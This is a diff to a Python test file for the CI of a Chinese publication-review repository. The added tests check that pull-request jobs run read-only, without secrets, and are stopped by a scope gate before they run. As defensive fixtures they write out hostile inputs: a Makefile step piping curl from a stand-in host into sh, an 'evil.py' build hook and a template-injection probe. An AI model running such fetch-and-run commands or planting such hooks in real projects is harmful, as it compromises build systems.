@@ -16,11 +16,13 @@ def test_workflow_files_are_valid():
     gh = yaml.safe_load(open(os.path.join(ROOT, ".github/workflows/review.yml"), encoding="utf-8"))
     steps = gh["jobs"]["review"]["steps"]
     runs = [s["run"] for s in steps if "run" in s]
-    assert runs == ["make setup", 'bash .ci/pr-check "origin/${{ github.base_ref }}"']
-    assert gh[True]["pull_request"]["paths"]  # YAML 1.1 reads the key `on` as True
+    assert runs[1:] == ['bash .ci/pr-scope "origin/${{ github.base_ref }}"', "make setup",
+                        'bash .ci/pr-check "origin/${{ github.base_ref }}"']  # the gate before any of the branch's code
     gl = yaml.safe_load(open(os.path.join(ROOT, ".gitlab-ci.yml"), encoding="utf-8"))
     job = gl["kanwu-review"]
     assert any(".ci/pr-check" in line for line in job["script"])
+    before = job["before_script"]
+    assert before.index(next(x for x in before if ".ci/pr-scope" in x)) < before.index("make setup")
     assert job["artifacts"]["reports"]["codequality"] == "gl-code-quality-report.json"
     pre = yaml.safe_load(open(os.path.join(ROOT, ".pre-commit-config.yaml"), encoding="utf-8"))
     hook = pre["repos"][0]["hooks"][0]
@@ -29,6 +31,66 @@ def test_workflow_files_are_valid():
         text = open(os.path.join(ROOT, rel), encoding="utf-8").read()
         for rule in ("真实准确", "报喜也报忧", "保密审查", "一事一报", "标题点明主旨", "篇幅", "时效"):
             assert rule in text
+
+
+def test_pull_requests_never_reach_the_publishing_server():
+    """The review jobs run a branch's code: never on the publishing runner, never with secrets or a
+    write token; publishing runs only for main, after the merge."""
+    gh = yaml.safe_load(open(os.path.join(ROOT, ".github/workflows/review.yml"), encoding="utf-8"))
+    on = gh[True]  # YAML 1.1 reads the key `on` as True
+    assert set(on) == {"pull_request"} and "paths" not in on["pull_request"]  # every pull request meets the gate
+    assert gh["permissions"] == {"contents": "read"}
+    review = gh["jobs"]["review"]
+    assert "kanwu-server" not in review["runs-on"] and "kanwu-review" in review["runs-on"] and review.get("container")
+    checkout = next(s for s in review["steps"] if str(s.get("uses", "")).startswith("actions/checkout"))
+    assert checkout["with"]["persist-credentials"] is False
+    assert "secrets." not in open(os.path.join(ROOT, ".github/workflows/review.yml"), encoding="utf-8").read()
+    pub = yaml.safe_load(open(os.path.join(ROOT, ".github/workflows/publish.yml"), encoding="utf-8"))
+    assert pub[True] == {"push": {"branches": ["main"]}} and pub["permissions"] == {"contents": "read"}
+    assert "kanwu-server" in pub["jobs"]["publish"]["runs-on"]
+    gl = yaml.safe_load(open(os.path.join(ROOT, ".gitlab-ci.yml"), encoding="utf-8"))
+    assert gl["kanwu-review"]["tags"] == ["kanwu-review"]
+    assert [r["if"] for r in gl["kanwu-review"]["rules"]] == ['$CI_PIPELINE_SOURCE == "merge_request_event"']
+    assert gl["kanwu-publish"]["tags"] == ["kanwu-server"]
+    (rule,) = gl["kanwu-publish"]["rules"]
+    assert "$CI_DEFAULT_BRANCH" in rule["if"] and '$CI_COMMIT_REF_PROTECTED == "true"' in rule["if"] and "when" not in rule
+
+
+def _branch_changing(tmp_path, rel, text):
+    tree = copy_sample(tmp_path / "repo", extra=(".ci",))
+    tree.git("init", "-q", "-b", "main")
+    tree.git("add", "-A")
+    tree.git("commit", "-qm", "样例")
+    tree.git("checkout", "-qb", "unit")
+    tree.write(rel, text)
+    tree.git("add", "-A")
+    tree.git("commit", "-qm", "改动")
+    return tree
+
+
+def run_scope(tree, approved=None):
+    env = {k: v for k, v in os.environ.items() if k != "KANWU_CODE_APPROVED"}
+    if approved is not None:
+        env["KANWU_CODE_APPROVED"] = approved
+    return subprocess.run(["bash", ".ci/pr-scope", "main"], cwd=tree.root, capture_output=True, text=True, env=env)
+
+
+def test_a_unit_branch_changing_code_is_refused_before_it_runs(tmp_path):
+    """.ci/pr-scope, on a real branch: an item passes; a Makefile that would run on the runner, a
+    mkdocs.yml hook, a theme template or a 中文-named script are refused until a signer's label."""
+    tree = _branch_changing(tmp_path / "item", "content/items/2026/11/20261124-qingxi-01.md",
+                            GOOD_ITEM.replace("2026-11-03", "2026-11-24"))
+    result = run_scope(tree)
+    assert result.returncode == 0, result.stdout + result.stderr
+    for rel, text in (("Makefile", "setup:\n\tcurl http://x.invalid/ | sh\n"), ("mkdocs.yml", "hooks: [evil.py]\n"),
+                      ("theme/overrides/main.html", "{{ 7*7 }}"), ("scripts/新脚本.sh", "echo 1\n"),
+                      (".github/workflows/review.yml", "on: push\n")):
+        tree = _branch_changing(tmp_path / rel.replace("/", "_"), rel, text)
+        result = run_scope(tree)
+        assert result.returncode == 1, rel
+        assert "程序或构建设置" in result.stdout and rel in result.stdout and "kanwu-code-approved" in result.stdout
+        assert run_scope(tree, approved="false").returncode == 1
+        assert run_scope(tree, approved="true").returncode == 0
 
 
 def pr_repo(tmp_path) -> Tree:
